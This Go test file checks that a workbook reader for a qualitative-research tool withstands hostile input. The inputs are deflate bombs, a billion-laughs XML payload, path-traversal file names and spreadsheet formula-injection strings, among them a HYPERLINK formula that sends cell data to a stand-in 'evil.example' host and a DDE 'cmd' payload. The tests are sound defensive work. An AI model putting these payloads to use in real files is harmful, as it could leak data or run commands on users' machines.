package workbook

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/qdabridge/qdabridge/internal/memtest"
	"github.com/qdabridge/qdabridge/refi"
	"github.com/qdabridge/qdabridge/xlsx"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// dataPart is one part of a hand-made hidden sheet.
type dataPart struct {
	kind, name string
	data       []byte // deflated and base64-encoded by hiddenSheet
	raw        string // written as is instead, when set
}

// hiddenSheet writes a workbook whose only sheet is the hidden data sheet,
// with the given format version and parts.
func hiddenSheet(t testing.TB, version string, parts ...dataPart) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := xlsx.NewWriter(&buf)
	s, err := w.AddSheet(sheetData, []string{"Kind", "Name", "Part", "Data"})
	require.NoError(t, err)
	if version != "" {
		require.NoError(t, s.WriteRow("format", version, nil, nil))
	}
	for _, p := range parts {
		enc := p.raw
		if enc == "" {
			var z bytes.Buffer
			fw, err := flate.NewWriter(&z, flate.BestCompression)
			require.NoError(t, err)
			_, err = fw.Write(p.data)
			require.NoError(t, err)
			require.NoError(t, fw.Close())
			enc = base64.StdEncoding.EncodeToString(z.Bytes())
		}
		for i := 0; len(enc) > 0; i++ {
			n := min(len(enc), 32000)
			require.NoError(t, s.WriteRow(p.kind, p.name, i+1, enc[:n]))
			enc = enc[n:]
		}
	}
	require.NoError(t, w.Close())
	return buf.Bytes()
}

const tinyProject = `<Project xmlns="urn:QDA-XML:project:1.0" name="tiny"/>`

// TestHostileWorkbooks reads workbooks whose hidden data sheet is hostile
// or broken: each fails with its typed error, or reads without touching
// anything outside memory.
func TestHostileWorkbooks(t *testing.T) {
	manyTexts := []dataPart{{kind: "project", name: "project.qde", data: []byte(tinyProject)}}
	for i := 0; i < 300; i++ {
		manyTexts = append(manyTexts, dataPart{kind: "text", name: fmt.Sprintf("internal://%03d.txt", i), data: bytes.Repeat([]byte("a"), 1<<20)})
	}
	tests := []struct {
		name   string
		data   []byte
		reader Reader
		is     error
		msg    string
		check  func(t *testing.T, res *Result)
	}{
		{name: "project deflate bomb (64 MiB of spaces)", data: hiddenSheet(t, formatVersion,
			dataPart{kind: "project", name: "project.qde", data: []byte(strings.Repeat(" ", 64<<20))}),
			is: refi.ErrLimit, msg: "project project.qde inflates the hidden sheet's data more than 100 times (a zip bomb?)"},
		{name: "300 texts of 1 MiB compressed 1000 to 1", data: hiddenSheet(t, formatVersion, manyTexts...),
			is: refi.ErrLimit, msg: "more than 100 times"},
		{name: "project over the project size limit", data: hiddenSheet(t, formatVersion,
			dataPart{kind: "project", name: "project.qde", data: []byte(tinyProject + strings.Repeat(" ", 5000))}),
			reader: Reader{Limits: refi.Limits{MaxProjectSize: 1000}}, is: refi.ErrLimit, msg: "inflates past 1000 bytes"},
		{name: "no format row", data: hiddenSheet(t, "", dataPart{kind: "project", name: "project.qde", data: []byte(tinyProject)}),
			is: ErrNotWorkbook, msg: `unknown format ""`},
		{name: "a newer format", data: hiddenSheet(t, "qdabridge-workbook 99", dataPart{kind: "project", name: "project.qde", data: []byte(tinyProject)}),
			is: ErrNotWorkbook, msg: `unknown format "qdabridge-workbook 99"`},
		{name: "not base64", data: hiddenSheet(t, formatVersion, dataPart{kind: "project", name: "project.qde", raw: "!!not base64!!"}),
			is: ErrNotWorkbook, msg: "project project.qde part 1: illegal base64 data"},
		{name: "not deflate", data: hiddenSheet(t, formatVersion, dataPart{kind: "project", name: "project.qde", raw: base64.StdEncoding.EncodeToString([]byte("plain text"))}),
			is: ErrNotWorkbook, msg: "project project.qde: flate: corrupt input"},
		{name: "no project", data: hiddenSheet(t, formatVersion), is: ErrNotWorkbook, msg: "the project is missing"},
		{name: "project not XML", data: hiddenSheet(t, formatVersion, dataPart{kind: "project", name: "project.qde", data: []byte("PK\x03\x04 a zip?")}),
			is: ErrNotWorkbook, msg: "not a REFI-QDA document"},
		{name: "billion laughs in the project", data: hiddenSheet(t, formatVersion, dataPart{kind: "project", name: "project.qde",
			data: []byte(`<!DOCTYPE Project [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Project xmlns="urn:QDA-XML:project:1.0" name="&b;"/>`)}),
			is: ErrNotWorkbook, msg: "entity &b; is not expanded"},
		{name: "text names that climb out", data: hiddenSheet(t, formatVersion,
			dataPart{kind: "project", name: "project.qde", data: []byte(`<Project xmlns="urn:QDA-XML:project:1.0" name="x"><Sources>` +
				`<TextSource guid="0a0a0a0a-0000-4000-8000-000000000001" name="s" plainTextPath="internal://../../evil.txt"/></Sources></Project>`)},
			dataPart{kind: "text", name: "internal://../../evil.txt", data: []byte("evil")},
			dataPart{kind: "text", name: "/etc/evil.txt", data: []byte("evil")},
			dataPart{kind: "text", name: `C:\evil.txt`, data: []byte("evil")}),
			check: func(t *testing.T, res *Result) {
				_, err := res.Document.Text(res.Document.Project.Sources[0].(*refi.TextSource))
				assert.ErrorIs(t, err, refi.ErrInsecurePath)
				n := 0
				for e := range res.Document.Excerpts(refi.ExcerptOptions{All: true}) {
					_ = e
					n++
				}
				assert.Zero(t, n)
			}},
		{name: "not a spreadsheet", data: []byte("Kind,Name,Part,Data\nformat,x,,\n"), is: xlsx.ErrNotXLSX},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			t.Chdir(dir)
			res, err := tt.reader.Read(bytes.NewReader(tt.data))
			entries, derr := os.ReadDir(dir)
			require.NoError(t, derr)
			assert.Empty(t, entries, "reading writes nothing")
			if tt.is != nil {
				require.Error(t, err)
				assert.ErrorIs(t, err, tt.is)
				assert.Contains(t, err.Error(), tt.msg)
				assert.NotContains(t, err.Error(), "\n")
				assert.Regexp(t, `^(workbook|xlsx|refi): `, err.Error())
				return
			}
			require.NoError(t, err)
			if tt.check != nil {
				tt.check(t, res)
			}
		})
	}
}

// TestHostileWorkbookMemory reads the deflate bombs of the hidden sheet
// with the default limits: the peak heap stays under 100 MB.
func TestHostileWorkbookMemory(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector's instrumentation makes heap figures meaningless")
	}
	var texts []dataPart
	texts = append(texts, dataPart{kind: "project", name: "project.qde", data: []byte(tinyProject)})
	for i := 0; i < 300; i++ {
		texts = append(texts, dataPart{kind: "text", name: fmt.Sprintf("internal://%03d.txt", i), data: bytes.Repeat([]byte("a"), 1<<20)})
	}
	inputs := []struct {
		name string
		data []byte
	}{
		{"project of 256 MiB of spaces", hiddenSheet(t, formatVersion, dataPart{kind: "project", name: "project.qde", data: bytes.Repeat([]byte(" "), 256<<20)})},
		{"300 texts of 1 MiB", hiddenSheet(t, formatVersion, texts...)},
	}
	for _, in := range inputs {
		t.Run(in.name, func(t *testing.T) {
			var err error
			before, peak := memtest.Peak(func() { _, err = Read(bytes.NewReader(in.data)) })
			used := peak - before
			t.Logf("peak heap %.1f MB (input %d bytes; %v)", float64(used)/1e6, len(in.data), err)
			assert.ErrorIs(t, err, refi.ErrLimit)
			assert.Less(t, used, uint64(100<<20))
		})
	}
}

// formulaNames are names a participant, a code or a memo may be given,
// that a spreadsheet would run if they were written as formulas.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"=cmd|' /C calc'!A0",
	"+44 7700 900000",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
	"=1+1",
}

// TestFormulaNamesStayText writes the workbook of a project whose code,
// case, source and attribute names, descriptions, memos and passages are
// formulas: no cell of any sheet is a formula, and the workbook reads back
// to the same project with no edit.
func TestFormulaNamesStayText(t *testing.T) {
	g := func(n int) refi.GUID { return refi.GUID(fmt.Sprintf("0a0a0a0a-0000-4000-8000-%012d", n)) }
	p := &refi.Project{Name: formulaNames[0], Origin: formulaNames[1]}
	text := strings.Join(formulaNames, "\n") + "\n"
	src := &refi.TextSource{SourceBase: refi.SourceBase{GUID: g(1), Name: formulaNames[2], Description: formulaNames[3]}, PlainTextPath: "internal://t.txt"}
	p.Variables = []*refi.Variable{{GUID: g(2), Name: formulaNames[4], Type: refi.VarText}}
	off := 0
	for i, name := range formulaNames {
		code := &refi.Code{GUID: g(100 + i), Name: name, IsCodable: true, Description: name}
		p.Codes = append(p.Codes, code)
		p.Cases = append(p.Cases, &refi.Case{GUID: g(200 + i), Name: name, Description: name,
			Values: []refi.VariableValue{{Variable: g(2), Type: refi.VarText, Value: name}}, SourceRefs: []refi.GUID{g(1)}})
		n := len([]rune(name))
		src.Selections = append(src.Selections, refi.TextSelection{
			SelectionBase: refi.SelectionBase{GUID: g(300 + i), Name: name, Description: name,
				Codings: []refi.Coding{{GUID: g(400 + i), Code: code.GUID}}},
			Start: int64(off), End: int64(off + n)})
		off += n + 1
	}
	p.Sources = []refi.Source{src}
	doc := refi.NewDocument(p, fstest.MapFS{"sources/t.txt": {Data: []byte(text)}})
	data := writeWorkbook(t, doc)

	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") {
			rc, err := f.Open()
			require.NoError(t, err)
			b, err := io.ReadAll(rc)
			rc.Close()
			require.NoError(t, err)
			assert.NotContains(t, string(b), "<f>", f.Name)
			assert.NotContains(t, string(b), "<f ", f.Name)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	require.NoError(t, err)
	defer f.Close()
	seen := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, ref)
				require.NoError(t, err)
				assert.Empty(t, formula, "%s!%s", sheet, ref)
				for _, name := range formulaNames {
					if v == name {
						seen++
					}
				}
			}
		}
	}
	assert.Greater(t, seen, 5*len(formulaNames), "the names are in the sheets, as text")

	res, err := Read(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Empty(t, res.Edits)
	assert.Empty(t, res.Problems)
	assert.Empty(t, refi.Diff(p, res.Document.Project))
}

// TestLargeTextNeverCut writes the workbook of a project with a text larger
// than the default text size limit: the text is written whole, a default
// reader refuses it with refi.ErrLimit, and a reader with a larger limit
// reads it back intact.
func TestLargeTextNeverCut(t *testing.T) {
	var b strings.Builder
	words := []string{"interview", "patient", "garden", "tea", "waiting", "list", "link", "worker", "surgery", "kitchen"}
	for i := 0; b.Len() <= int(refi.Limits{}.WithDefaults().MaxTextSize); i++ {
		b.WriteString(words[(i*7+i/10)%len(words)])
		b.WriteString(fmt.Sprintf(" %d ", i))
	}
	text := b.String()
	g := refi.GUID("0a0a0a0a-0000-4000-8000-000000000001")
	p := &refi.Project{Name: "large", Sources: []refi.Source{&refi.TextSource{SourceBase: refi.SourceBase{GUID: g, Name: "big"}, PlainTextPath: "internal://big.txt"}}}
	data := writeWorkbook(t, refi.NewDocument(p, fstest.MapFS{"sources/big.txt": {Data: []byte(text)}}))

	_, err := Read(bytes.NewReader(data))
	require.Error(t, err)
	assert.ErrorIs(t, err, refi.ErrLimit)
	assert.Contains(t, err.Error(), "text internal://big.txt inflates past 16777216 bytes")

	res, err := (&Reader{Limits: refi.Limits{MaxTextSize: 64 << 20}}).Read(bytes.NewReader(data))
	require.NoError(t, err)
	txt, err := res.Document.Text(res.Document.Project.Sources[0].(*refi.TextSource))
	require.NoError(t, err, "the document reads its texts with the reader's limits")
	assert.Equal(t, len(text), len(txt.String()))
	assert.True(t, txt.String() == text, "the text is intact")
}
